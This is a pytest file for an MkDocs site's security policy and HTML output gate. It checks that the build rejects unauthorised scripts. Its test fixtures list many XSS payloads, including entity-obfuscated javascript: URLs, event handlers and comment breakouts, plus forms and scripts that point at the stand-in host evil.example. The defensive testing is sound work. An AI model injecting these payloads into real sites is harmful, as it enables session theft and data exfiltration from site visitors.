"""The Content-Security-Policy allows only the theme's and our templates' inline scripts; the output gate.

Issue 10 (critical): the policy used to hash every inline script found in the final HTML, so an
editor's (or attacker's) <script> was allowed by the policy that should stop it.
"""

from __future__ import annotations

import re
import shutil
from pathlib import Path

import pytest
from conftest import copy_repo, run_mkdocs

from tools.security import policy as security

ROOT = Path(__file__).resolve().parent.parent


@pytest.fixture(scope="module")
def theme():
    from mkdocs.config import load_config

    config = load_config(str(ROOT / "mkdocs.yml"))
    return config, config.theme.get_env()


def test_known_scripts_come_from_materials_templates(theme):
    config, env = theme
    scripts = security.known_inline_scripts(env, config, "..")
    assert any(s.startswith('__md_scope=new URL("/",location)') for s in scripts), scripts
    assert any("location.hash.slice(1)" in s for s in scripts), scripts
    # extra.scope: / makes the first script the same on every page, whatever the depth.
    assert security.known_hashes(env, config, ".") == security.known_hashes(env, config, "../../..")


def test_an_override_with_an_inline_script_is_known(theme, tmp_path):
    config, env = theme
    (tmp_path / "main.html").write_text("{% block x %}<script>var rs={{ 1 + 1 }};</script>{% endblock %}", encoding="utf-8")
    scripts = security.known_inline_scripts(env, config, ".", overrides=tmp_path)
    assert "var rs=2;" in scripts


def test_policy_does_not_follow_the_page(theme):
    config, env = theme
    allowed = security.known_hashes(env, config, ".")
    evil = '<html><head><meta charset="utf-8"></head><body><script>alert(1)</script></body></html>'
    out = security.secure_page(evil, allowed, "www.example.nl")
    assert security.script_hash("alert(1)") not in out
    problems = security.scan_output(out, allowed, "www.example.nl")
    assert [rule for _, rule, _ in problems] == ["onbekend-script"]


BAD_OUTPUT = {
    "script": "<p>x</p><script>alert(1)</script>",
    "script with type": '<script type="text/javascript">alert(1)</script>',
    "script module": '<script type="module">import("x")</script>',
    "importmap": '<script type="importmap">{"imports": {}}</script>',
    "script in svg": "<svg><script>alert(1)</script></svg>",
    "onclick": '<a href="#" onclick="alert(1)">x</a>',
    "onclick unquoted": "<p onclick=alert(1)>x</p>",
    "onload after slash": "<svg/onload=alert(1)>",
    "handler after quoted value": '<a href="x"onmouseover="alert(1)">x</a>',
    "quoted > hides nothing": '<a title=">" onclick="alert(1)">x</a>',
    "upper case handler": '<IMG SRC="x.png" ONERROR="alert(1)">',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript with entities": '<a href="&#106;avascript&#58;alert(1)">x</a>',
    "javascript with hex entity and tab": '<a href="java&#x09;script:alert(1)">x</a>',
    "javascript with named entities": '<a href="java&Tab;script&colon;alert(1)">x</a>',
    "javascript with spaces and case": '<a href="  JaVaScRiPt:alert(1)">x</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "javascript in form action": '<form action="javascript:alert(1)"><button>x</button></form>',
    "svg xlink": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "data href": '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    "iframe": '<iframe src="https://example.org/"></iframe>',
    "iframe srcdoc": '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    "object": '<object data="x.swf"></object>',
    "embed": '<embed src="x.swf">',
    "base": '<base href="https://evil.example/">',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
    "form elsewhere": '<form action="https://evil.example/steal"><input name="q"></form>',
    "foreign script": '<script src="https://evil.example/x.js"></script>',
    "protocol-relative script": '<script src="//evil.example/x.js"></script>',
    "data script": '<script src="data:text/javascript,alert(1)"></script>',
    "abrupt comment": "<!--><img src=x onerror=alert(1)>",
    "comment ended by --!>": "<!-- x --!><img src=x onerror=alert(1)>",
    "json block breaking out": '<script type="application/ld+json">{"a": "<!--<script>"}</script>',
    "json block not json": '<script type="application/json">alert(1)</script>',
}


@pytest.mark.parametrize("name", list(BAD_OUTPUT))
def test_output_gate_catches(name):
    problems = security.scan_output(f"<html><body>\n{BAD_OUTPUT[name]}\n</body></html>", frozenset(), "www.example.nl")
    assert problems, f"{name} passed the output gate"
    assert all(line == 2 for line, _, _ in problems), problems


GOOD_OUTPUT = {
    "escaped example": "<p><code>&lt;a onclick=&quot;x()&quot;&gt;</code></p>",
    "comment": "<!-- <a onclick='x()'>oud</a> -->",
    "text with on": "<p>Kijk online = handig, on the = side.</p>",
    "json-ld": '<script type="application/ld+json">{"@type": "GovernmentService", "name": "A \\u003c/script"}</script>',
    "same-origin script": '<script src="../assets/js/kiezer.js"></script>',
    "data attribute": '<div data-rs-kiezer data-rs-lang="nl" class="one">x</div>',
    "image data url": '<img src="data:image/png;base64,iVBORw0KGgo=" alt="">',
    "links": '<a href="https://www.rijksoverheid.nl/" rel="noopener noreferrer">x</a><a href="tel:0800-2000">x</a>'
    '<a href="mailto:a@b.nl">x</a><a href="../geld/#kosten">x</a>',
    "same-site form": '<form class="md-search__form" name="search"><input name="query"></form>',
    "known script": "<script>known()</script>",
}


@pytest.mark.parametrize("name", list(GOOD_OUTPUT))
def test_output_gate_lets_through(name):
    allowed = frozenset({security.script_hash("known()")})
    assert security.scan_output(GOOD_OUTPUT[name], allowed, "www.example.nl") == []


def test_a_script_in_the_output_fails_the_build_and_keeps_the_last_site(tmp_path):
    """The output gate on its own: a script that reaches the HTML past every source gate (here a
    template override) fails `mkdocs build -q`, names the page and leaves the previous site."""
    repo = copy_repo(tmp_path / "repo")
    site = tmp_path / "site"
    site.mkdir()
    (site / "vorige.txt").write_text("de vorige site", encoding="utf-8")
    main = repo / "overrides" / "main.html"
    main.write_text(
        main.read_text(encoding="utf-8").replace(
            "{% block extrahead %}", "{% block extrahead %}<script>{{ page.title }}</script>"
        ),
        encoding="utf-8",
    )
    result = run_mkdocs(repo, site)
    out = result.stdout + result.stderr
    assert result.returncode != 0, out[-3000:]
    assert "Traceback" not in out
    assert "onbekend-script" in out and "docs/geld.md" in out, out[-3000:]
    assert sorted(p.name for p in site.iterdir()) == ["vorige.txt"], "the previous site must stay as it was"
    assert not list(tmp_path.glob(".rs-bouw-*")), "the temporary build folder must be removed"
    shutil.rmtree(repo)


# ---------------------------------------------------------------------------- the fast scanner is the plain one


PIECES = [
    '<a href="../x/">',
    '<a title=">" onclick=x>',
    "<a ONclick=1>",
    '<div class="a b" data-x="1">',
    "<p>",
    "</p>",
    "<!-- <script>bad()</script> -->",
    "<!-->",
    "<!--",
    "-->",
    "<!DOCTYPE html>",
    "<script>",
    "</script>",
    "<style>",
    "</style>",
    '<img src="data:image/png;base64,AA">',
    '<a href="javascript:x">',
    '<a href="java&#x73;cript:x">',
    "<iframe src=//x>",
    "<svg onload=1>",
    "<b/onmouseover=1>",
    "<meta http-equiv=refresh content=0>",
    '<a b ="x">',
    '<a b="x" c>',
    "<A HREF='x'>",
    "<x:y>",
    "<a srcdoc=x>",
    '<a data-srcdoc="y">',
    "text < 3 and 4 > 2",
    "<",
    ">",
    '"',
    "'",
    "=",
    " ",
    "\n",
    "<textarea><a onclick=1></textarea>",
    "<title>",
    "</title >",
    "<a\nonclick=1>",
    '<input value="a:b">',
    "<object>",
    "<form action=https://evil.example/>",
    "<span hidden data-rs-x>",
]


def test_fast_scanner_finds_what_the_plain_scanner_finds(monkeypatch):
    """scan_output skips runs of harmless tags in C (SKIP_RE); with a SKIP_RE that skips only text,
    every tag goes through the Python checks, as the gate was first written. Both must agree."""
    import random

    rng = random.Random(13)
    pages = [p.read_text(encoding="utf-8") for p in sorted((ROOT / "overrides").rglob("*.html"))]
    pages += ["".join(rng.choice(PIECES) for _ in range(rng.randint(1, 40))) for _ in range(4000)]
    fast = [security.scan_output(html, frozenset(), "www.example.nl") for html in pages]
    monkeypatch.setattr(security, "SKIP_RE", re.compile(r"(?:[^<]++|<(?![a-zA-Z]|!--))*+"))
    plain = [security.scan_output(html, frozenset(), "www.example.nl") for html in pages]
    assert sum(map(len, plain)) > 1000  # the pieces do make the gate speak
    for html, got, expected in zip(pages, fast, plain, strict=True):
        assert got == expected, html
